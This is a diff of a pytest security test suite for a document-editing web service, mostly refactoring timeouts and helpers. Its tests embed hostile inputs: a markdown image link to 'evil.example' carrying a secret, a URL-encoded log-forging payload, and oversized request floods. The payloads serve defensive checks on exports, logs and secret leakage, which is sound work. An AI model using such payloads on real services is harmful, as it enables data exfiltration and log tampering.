@@ -6,8 +6,7 @@ remembering it.
 
 import itertools
 import json
-import time
-from concurrent.futures import ThreadPoolExecutor
+from concurrent.futures import Future, ThreadPoolExecutor
 from http import client as http_client
 from pathlib import Path
 from typing import Any
@@ -19,15 +18,8 @@ import pytest
 
 from tests.support.floods import EXPORTED, FLOODS
 from tests.support.routes import Route, every_route
-from tests.support.server import (
-    BRIEF,
-    DEMO_FILE,
-    PASSWORD,
-    Server,
-    created,
-    save_section,
-    until,
-)
+from tests.support.server import BRIEF, DEMO_FILE, PASSWORD, Server, created, save_section
+from tests.support.waiting import until
 from xiezuo.formats import registry
 
 pytestmark = pytest.mark.xdist_group("guarded")
@@ -79,7 +71,7 @@ def test_no_hostile_id_finds_or_breaks_anything(server: Server):
     document = created(server.http)["id"]
     parts = urlsplit(server.url)
     before = _files(server)
-    connection = http_client.HTTPConnection(parts.hostname, parts.port, timeout=30)
+    connection = http_client.HTTPConnection(parts.hostname, parts.port, timeout=60)
     faults = []
     for (kind, name), route in itertools.product(HOSTILE.items(), ROUTES):
         for hostile in route.parameters:
@@ -230,16 +222,21 @@ def test_control_tokens_in_a_document_are_kept_and_told_as_text(http: httpx.Clie
 
 
 def test_floods_end_soon_and_others_are_served_meanwhile(http: httpx.Client):
-    served = 0
+    served = []
     with ThreadPoolExecutor() as pool:
         for text in FLOODS.values():
             flood = pool.submit(http.post, "/api/lint", json={"text": text}, timeout=90)
-            while not flood.done():
-                assert http.get("/api/documents").status_code == 200
-                served += not flood.done()
-                time.sleep(0.05)
+
+            def over(flood: Future[httpx.Response] = flood) -> bool:
+                served.append(http.get("/api/documents").status_code)
+                return flood.done()
+
+            until(over)
             assert flood.result().status_code in {200, 413}
-    assert served >= len(FLOODS)
+    assert set(served) == {200}
+    assert len(served) > 2 * len(
+        FLOODS
+    )  # more than one that waited for the flood, and one after it
 
 
 def test_floods_are_exported_in_bounded_time(http: httpx.Client):
@@ -259,8 +256,8 @@ def test_no_picture_of_elsewhere_is_asked_for(http: httpx.Client):
     edit = {"text": "![x](http://evil.example/?q=secret)", "version": 0}
     http.put(f"/api/documents/{document}/sections/0", json=edit)
     for kind in ("html", "docx", "epub"):
-        made = http.get(f"/api/documents/{document}/export/{kind}").content
-        assert b"evil.example" not in made
+        exported = http.get(f"/api/documents/{document}/export/{kind}").content
+        assert b"evil.example" not in exported
 
 
 @pytest.mark.engine
@@ -269,25 +266,34 @@ def test_no_secret_is_in_errors_exports_or_process_lists(guarded: tuple[Server, 
     headers = {"Authorization": f"Bearer {keys['ann']}"}
     with httpx.Client(base_url=server.url, headers=headers, timeout=60) as ann:
         document = created(ann)["id"]
-        said = [
+        answers = [
             ann.request(
                 route.method, route.filled(document_id="x"), json={} if route.body else None
             )
             for route in ROUTES
             if route.shut and route.parameters
         ]
-        said += [
-            ann.get(f"/api/documents/{document}/export/{each.id}") for each in registry.EXPORTED
+        answers += [
+            ann.get(f"/api/documents/{document}/export/{file_format.id}")
+            for file_format in registry.EXPORTED
         ]
-        said += [ann.get("/metrics"), ann.get("/api/engine"), ann.get("/api/settings")]
+        answers += [ann.get("/metrics"), ann.get("/api/engine"), ann.get("/api/settings")]
     process = psutil.Process(server.process.pid)
     family = [process, *process.children(recursive=True)]
-    engine_keys = [one.environ()[name] for one in family for name in one.environ()
-                   if name.endswith("API_KEY") and one != process]  # fmt: skip
+    engine_keys = [
+        member.environ()[name]
+        for member in family
+        for name in member.environ()
+        if name.endswith("API_KEY") and member != process
+    ]
     assert engine_keys
     secrets = [PASSWORD, *keys.values(), *engine_keys]
-    lists = " ".join(" ".join(one.cmdline()) for one in family)
-    texts = [lists, server.log.read_text(), *(one.text + str(one.headers) for one in said)]
+    lists = " ".join(" ".join(member.cmdline()) for member in family)
+    texts = [
+        lists,
+        server.log.read_text(),
+        *(answer.text + str(answer.headers) for answer in answers),
+    ]
     logs = [path.read_text(errors="replace") for path in server.data.rglob("*.log")]
     for text in (*texts, *logs):
         assert not any(secret in text for secret in secrets)
@@ -295,7 +301,7 @@ def test_no_secret_is_in_errors_exports_or_process_lists(guarded: tuple[Server, 
 
 def test_a_line_of_the_log_cannot_be_forged(server: Server):
     parts = urlsplit(server.url)
-    connection = http_client.HTTPConnection(parts.hostname, parts.port, timeout=10)
+    connection = http_client.HTTPConnection(parts.hostname, parts.port, timeout=60)
     forged = "%0a%7b%22level%22:%22FORGED%22%7d"
     connection.request("GET", f"/api/documents/{forged}", headers={"X-Request-ID": "a b"})
     connection.getresponse().read()
